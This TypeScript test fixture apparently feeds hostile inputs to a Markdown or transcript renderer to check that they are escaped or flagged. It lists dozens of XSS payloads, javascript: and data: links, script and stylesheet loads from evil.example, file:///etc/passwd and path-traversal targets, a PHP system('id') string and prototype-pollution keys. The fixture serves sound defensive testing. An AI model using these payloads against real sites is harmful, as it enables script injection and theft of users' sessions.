import { body } from "../hostile-case.ts";

const markup = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=data:text/html,<script>alert(1)</script>></object>",
  "<embed src=https://evil.example/x.swf>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'; *{display:none}</style>",
  "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea></textarea><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "<template><script>alert(1)</script></template>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<sub onclick=alert(1)>x</sub>",
  "<sub><script>alert(1)</script></sub>",
  "<kbd style=position:fixed;inset:0>x</kbd>",
  "<br onload=alert(1)>",
  "<sub>a</sup><sup>b</sub>",
  "<!--><script>alert(1)</script>-->",
  "<!-- a --><script>alert(1)</script><!-- b -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php system('id') ?>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "# <script>alert(1)</script>",
  '## a" onmouseover="alert(1)',
  "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "AI (<img src=x onerror=alert(1)>): <script>alert(1)</script>",
  'AI (a" onclick="alert(1)): b" onclick="alert(1)',
  "Decision: <script>alert(1)</script>",
  "## Support Update\n\n- <b onclick=alert(1)> (</script><script>alert(1)</script>): help",
  "::tickets<script>alert(1)</script>",
  "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
  "</script><script>alert(1)</script> in a record of the search",
  "a\\nEND:VCALENDAR\\nBEGIN:VCALENDAR",
];

const targets = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)",
  "java\\script:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2Zy8+",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "//evil.example/",
  "/\\evil.example/",
  "\\\\evil.example\\share",
  "feed:javascript:alert(1)",
  "view-source:https://evil.example/",
  "ms-msdt:/id",
  "tel:1",
  "https:evil.example",
  'https://evil.example/"onclick="alert(1)',
  "https://evil.example/?a=<script>",
  "https://evil.example/%00%0d%0aX:1",
  "https://user:secret@evil.example/",
  "https://[::1]/",
  "https://\u202egnp.exe/",
  "../../../../etc/passwd",
  '#"><script>alert(1)</script>',
  '2020-09-07.md#"><script>alert(1)</script>',
  "mailto:a@b.example?bcc=all@b.example",
];

/** What looks like an issue or pull request. */
const references = [
  `ferry/hull#${"9".repeat(400)}`,
  `${"ferry/".repeat(300)}hull#12`,
  `${"a".repeat(400)}/${"b".repeat(400)}#12`,
  "../../etc/passwd#12 ..#12 ./.#12 ferry/..#12",
  "ferry/index.html#12 ferry/feed.xml#12 2020/index.html#12",
  "__proto__/constructor#12 toString#12 hasOwnProperty!12",
  "https://github.com/ferry/../../../issues/12",
  "https://github.com/%2e%2e/%2e%2e/issues/12",
  "https://github.com/ferry/index.html/issues/12",
  "https://gitlab.com/ferry/feed.xml/-/merge_requests/12",
  "https://localhost/a/b/-/issues/12 https://127.0.0.1/a/b/-/issues/12",
  `https://git.example/${"a/".repeat(200)}-/issues/12`,
  "https://github.com/ferry/hull/issues/1e9 https://github.com/ferry/hull/issues/-1",
];

/** Only this one holds a hidden character as typed. */
const isHidden = (target: string): boolean => target.includes("\u202e");
/** These lead to no page or part of the site. */
const isDead = (target: string): boolean => /^(?:\.\.|#|2020|\/\\)/.test(target);
const marked = (target: string): string =>
  isDead(target) ? `‸${target}` : target.replace("\u202e", "‸\u202e");

/** Those who speak in a transcript. */
const speakers = [
  "[name=<script>alert(1)</script>] ",
  '[name=a" onmouseover="alert(1)] ',
  "[name=__proto__] ",
  "<onload> ",
  "<script> ",
  "<b onclick=alert(1)>Mat</b>: ",
  "[Mat](javascript:alert(1)): ",
  "**[Mat](https://evil.example/'onclick='alert(1)):** ",
  "constructor: ",
  "@__proto__: ",
  "MAT (</b><script>alert(1)</script>): ",
];

/** Bodies that would run, load or forge something. */
export const bodies = [
  ...markup.map((text) => body(`the markup ${JSON.stringify(text.slice(0, 60))}`, text)),
  ...targets.flatMap((target) => {
    const finding = isHidden(target) ? "hidden-character" : isDead(target) ? "dead-link" : null;
    const link = `a link to ${JSON.stringify(target)}`;
    return [
      // A > ends an address between < and >, so that it is no link.
      isDead(target) && target.includes(">")
        ? body(link, `[a](<${target}>)`)
        : body(link, `[a](<${marked(target)}>)`, finding),
      body(`an image of ${JSON.stringify(target)}`, `![a](${marked(target)})`, finding),
    ];
  }),
  ...speakers.map((speaker) =>
    body(`the speaker ${JSON.stringify(speaker)}`, `Kim: a\n\n${speaker}b\n\n`.repeat(6)),
  ),
  ...references.map((text) => body(`the reference ${JSON.stringify(text.slice(0, 60))}`, text)),
  body("a definition of a link that runs", "[a]\n\n[a]: javascript:alert(1) 'x'"),
  body("a title of a link with a quote", '[a](https://a.example "x\\" onclick=\\"alert(1)")'),
  body("an address that runs", "<javascript:alert(1)> and <https://a.example/'onclick='alert(1)>"),
  body("a reversing character reference", "a &#x202E; b &#8238; c"),
  body("a NUL reference", "a &#0; b &#x1b; c &#127; d"),
  body("a reference to half a character", "a &#xd800; b &#xdfff; c"),
  body("a directive nobody knows", "‸::prototype\n\nText.", "unknown-directive"),
  body("headings with the ids of the page", "## Summary\n\n## Main\n\n## Tickets\n\n## Minutes\n"),
  body("headings of signs alone", "## !!!\n\n## ???\n\n### \u200b\n"),
  body("blocks without a text", "#\n\n##\n\n-\n\n>\n\n|  |\n| - |\n|  |\n\n- [ ]\n"),
  body(
    "a decision that ends before its address",
    "DECISION: the password is\n\nDECISION: the password is unsound due to 4v",
  ),
  body(
    "a decision whose anchor would announce that of the next line",
    "DECISION: X::pin is\n\nDECISION: X::pin is unsound due to 4v",
  ),
  body("an issue after what looks like a tag", '## A `Pin` for `Pin<&dyn Rope>`" rope#85099'),
  body(
    "an address that ends in a number, before a footnote of an e-mail",
    "[a](https://dock.example/open-call/253/148) [b](https://dock.example/15tv)",
  ),
  body(
    "numbers that a key of JSON would announce",
    `## Numbers\n\n${[4031, 4450, 4590, 4664, 4698].join("\n")}`,
  ),
  body("the key of an issue with 50,000 digits", `BOAT-${"1".repeat(15_000)}`),
  body("the key of an issue without a project", "__proto__-1 constructor-2 BOAT-x BOAT--1"),
  body("a line separator", "a\u2028b\u2029c"),
  body("zero-width characters", "a\u200bb\u200cc\u2060d\ufeffe"),
  body("letters of other scripts", "аррӏе.com ｆｕｌｌ ⒶⒷ"),
];
